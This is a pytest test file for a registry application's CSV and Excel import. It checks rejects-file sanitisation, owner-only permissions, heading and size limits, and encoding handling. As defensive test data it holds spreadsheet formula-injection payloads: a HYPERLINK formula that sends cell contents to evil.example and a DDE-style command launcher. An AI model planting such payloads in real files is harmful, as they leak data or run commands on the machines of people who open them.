"""Import limits and safe outputs on a real database: hostile values neutralised in the rejects file,
which is owner-only; header problems reported in a bounded summary; a refused file leaves nothing behind."""

from __future__ import annotations

import csv
import stat

import pytest
from openpyxl import Workbook

from carnet.kit.csvsafe import restore
from carnet.kit.errors import AppError, ValidationFailed
from carnet.registry.importer import ColumnMapping, resolve_columns
from carnet.registry.limits import ImportLimits, ImportTooLarge
from carnet.registry.service import current_dictionary
from tests.conftest import count_rows
from tests.integration.registry.test_import import GOOD, HEADER, do_import, write_csv

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"ver")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)", "\t=1"]


class TestRejectsFile:
    def rows(self):
        # Each row is rejected (31 February) and carries a hostile name and a phone starting with '+'.
        return [[name, "Paz", "31/02/1990", "VE-A", "", "+58 414 1111111", "", "", ""] for name in HOSTILE_NAMES]

    def test_no_rejected_cell_can_start_a_formula_and_each_value_is_recoverable(self, session, registrar, tmp_path):
        run = do_import(session, write_csv(tmp_path / "c.csv", self.rows()), registrar)
        assert run.rows_rejected == len(HOSTILE_NAMES)
        with open(run.rejects_path, encoding="utf-8", newline="") as handle:
            lines = list(csv.reader(handle))
        for line in lines:
            for cell in line:
                assert not cell or cell[0] not in "=+-@\t\r", cell
        # One line per problem: a row may appear more than once.
        names = {line[0]: restore(line[4]) for line in lines[1:]}
        assert list(names.values()) == HOSTILE_NAMES
        assert {restore(line[9]) for line in lines[1:]} == {"+58 414 1111111"}

    def test_the_rejects_file_is_readable_by_its_owner_only(self, session, registrar, tmp_path):
        run = do_import(session, write_csv(tmp_path / "c.csv", self.rows()), registrar)
        assert stat.S_IMODE((tmp_path / "c.csv.rejects.csv").stat().st_mode) == 0o600
        assert run.rejects_path == str(tmp_path / "c.csv.rejects.csv")


class TestHeadings:
    def test_unknown_columns_are_summarised_not_listed_one_by_one(self, session, registrar, tmp_path):
        header = [*HEADER, *(f"extra_{i}" for i in range(400))]
        path = write_csv(tmp_path / "c.csv", [[*GOOD[0], *[""] * 400]], header=header)
        with pytest.raises(ValidationFailed) as caught:
            do_import(session, path, registrar)
        errors = caught.value.errors
        assert caught.value.code == "undeclared_column"
        assert [e.field for e in errors[:20]] == [f"extra_{i}" for i in range(20)]
        assert len(errors) == 21 and "380 more" in errors[-1].message

    def test_a_heading_repeated_ten_thousand_times_is_one_duplicate(self, session):
        dictionary = current_dictionary(session)
        header = ["given_names"] * 100_000 + ["family_names", "date_of_birth", "region_code"]
        with pytest.raises(ValidationFailed) as caught:
            resolve_columns(header, ColumnMapping(), dictionary)
        assert [(e.field, e.code) for e in caught.value.errors] == [("given_names", "duplicate_column")]

    def test_too_many_headings_are_refused_before_any_work_per_column(self, session, registrar, tmp_path):
        header = [*HEADER, *(f"religion_{i}" for i in range(600))]
        path = write_csv(tmp_path / "c.csv", [], header=header)
        with pytest.raises(ImportTooLarge) as caught:
            do_import(session, path, registrar)
        # Not prohibited_attribute: the column count is checked first, whatever the headings say.
        assert caught.value.code == "import_too_many_columns" and caught.value.status == 413


class TestRefusedMidway:
    def test_a_row_limit_reached_midway_leaves_no_rows_and_no_rejects_file(self, session, registrar, tmp_path):
        bad = ["Rosa", "Pérez", "31/02/1980", "VE-A", "", "", "", "", ""]
        path = write_csv(tmp_path / "c.csv", [bad, *GOOD])
        before = count_rows(session, "persons")
        nested = session.begin_nested()
        with pytest.raises(ImportTooLarge) as caught:
            do_import(session, path, registrar, limits=ImportLimits(max_rows=3), batch_size=100)
        nested.rollback()
        assert caught.value.code == "import_too_many_rows"
        assert count_rows(session, "persons") == before
        assert not (tmp_path / "c.csv.rejects.csv").exists()

    def test_an_overlong_csv_line_is_refused_with_its_number(self, session, registrar, tmp_path):
        path = write_csv(tmp_path / "c.csv", GOOD)
        with path.open("a", encoding="utf-8") as handle:
            handle.write("x" * 5_000 + "\n")
        with pytest.raises(ImportTooLarge) as caught:
            do_import(session, path, registrar, limits=ImportLimits(max_columns=9, max_cell_chars=100))
        assert caught.value.code == "import_row_too_long" and "line 6" in caught.value.message

    def test_a_large_workbook_cell_names_sheet_row_and_column(self, session, registrar, tmp_path):
        workbook = Workbook()
        sheet = workbook.active
        sheet.title = "Censo"
        sheet.append(HEADER)
        sheet.append(GOOD[0])
        sheet.append(["Ana", "x" * 5_000, "1990-01-01", "VE-A", "", "", "", "", ""])
        path = tmp_path / "c.xlsx"
        workbook.save(path)
        # Excel (and openpyxl) store at most 32,767 characters a cell, so the test lowers the limit instead.
        with pytest.raises(ImportTooLarge) as caught:
            do_import(session, path, registrar, limits=ImportLimits(max_cell_chars=1_000))
        message = caught.value.message
        assert caught.value.code == "import_cell_too_large"
        assert "sheet 'Censo'" in message and "row 3" in message and "column B" in message


class TestEncodings:
    @pytest.mark.parametrize(
        ("encoding", "named"), [("utf-16", "UTF-16 LE"), ("utf-32", "UTF-32 LE"), ("utf-16-be", "UTF-16")]
    )
    def test_wide_encodings_are_named(self, session, registrar, tmp_path, encoding, named):
        path = tmp_path / "c.csv"
        path.write_bytes(("\n".join(",".join(r) for r in [HEADER, GOOD[0]]) + "\n").encode(encoding))
        with pytest.raises(AppError) as caught:
            do_import(session, path, registrar)
        assert caught.value.code == "import_encoding_unsupported" and caught.value.status == 415
        assert named in caught.value.message

    def test_a_utf8_byte_order_mark_is_accepted(self, session, registrar, tmp_path):
        path = tmp_path / "c.csv"
        path.write_bytes(("\n".join(",".join(r) for r in [HEADER, *GOOD]) + "\n").encode("utf-8-sig"))
        assert do_import(session, path, registrar).rows_imported == 4


def test_a_lowered_cell_limit_names_row_and_column_and_leaves_csv_readers_alone(session, registrar, tmp_path):
    path = write_csv(tmp_path / "c.csv", [GOOD[0], ["Ana", "y" * 500, "1990-01-01", "VE-A", "", "", "", "", ""]])
    limit_before = csv.field_size_limit()
    with pytest.raises(ImportTooLarge) as caught:
        do_import(session, path, registrar, limits=ImportLimits(max_cell_chars=100))
    assert caught.value.code == "import_cell_too_large" and "row 3, column 2" in caught.value.message
    # The csv module's limit is process-wide: an import never lowers it for other readers.
    assert csv.field_size_limit() == limit_before
